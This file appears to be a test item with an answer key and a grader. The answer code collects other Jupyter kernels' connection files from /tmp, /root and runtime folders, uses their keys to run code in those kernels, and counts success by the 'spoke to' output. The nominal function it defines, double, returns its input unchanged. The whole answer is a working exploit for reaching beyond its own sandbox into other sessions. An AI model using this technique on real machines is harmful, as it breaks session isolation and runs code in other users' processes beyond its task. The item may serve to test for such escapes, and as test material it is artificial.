"""Sends Jupyter messages to the ports of every other kernel on this machine, with the keys that lie about."""

ANSWER = """
import glob, json, os
from jupyter_client import BlockingKernelClient
from ipykernel.kernelapp import IPKernelApp
own = IPKernelApp.instance().abs_connection_file
folders = ["/tmp", "/run/user/0", "/root/.local/share/jupyter/runtime", os.path.dirname(own), "/run/kernels/*"]
for name in {name for folder in folders for name in glob.glob(folder + "/*.json")} - {own}:
    try:
        client = BlockingKernelClient(connection_file=name)
        client.load_connection_file()
        client.start_channels()
        client.wait_for_ready(timeout=1)
        client.execute("left_by = 'a submission'")
        print("spoke to", name)
    except Exception:
        pass
def double(x):
    return x
"""


def won(course, me):
    return "spoke to /" in course.output(me)
